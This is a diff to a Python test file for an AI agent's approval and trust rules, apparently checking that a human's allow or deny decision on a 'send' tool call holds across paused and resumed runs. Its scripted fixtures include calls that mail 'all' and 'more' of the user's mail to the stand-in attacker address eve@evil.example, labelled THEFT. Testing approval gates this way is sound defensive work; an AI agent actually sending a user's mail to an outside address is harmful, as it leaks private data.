@@ -14,6 +14,7 @@ from rightcall.testing import ScriptedModel, call, reply
 from rightcall.trust.rules import Rule, Rules
 from trust.kit import EVIL, Office
 
+EVE = "eve@evil.example"
 PROMPT = "Read my mail and answer bob@firm.example."
 THEFT = call("send", to=["eve@evil.example"], body="all")
 AGAIN = call("send", to=["eve@evil.example"], body="more")
@@ -76,7 +77,7 @@ async def test_a_yes_for_the_run_holds_after_it_was_paused_and_carried_elsewhere
     result = RunResult.from_json((await agent.run(PROMPT)).to_json())
     result = await agent.resume(result, {result.pending[0].call_id: Allow("target")})
     assert len(office.done) == 2
-    assert result.state.approvals == (Approval(tool="send", targets=("eve@evil.example",)),)
+    assert result.state.approvals == (Approval(tool="send", targets=(EVE,), arguments={"to": (EVE,)}),)
     result = RunResult.from_json(result.to_json())
     result = await agent.resume(result, {result.pending[0].call_id: False})
     assert (result.text, len(office.done)) == ("done", 2)
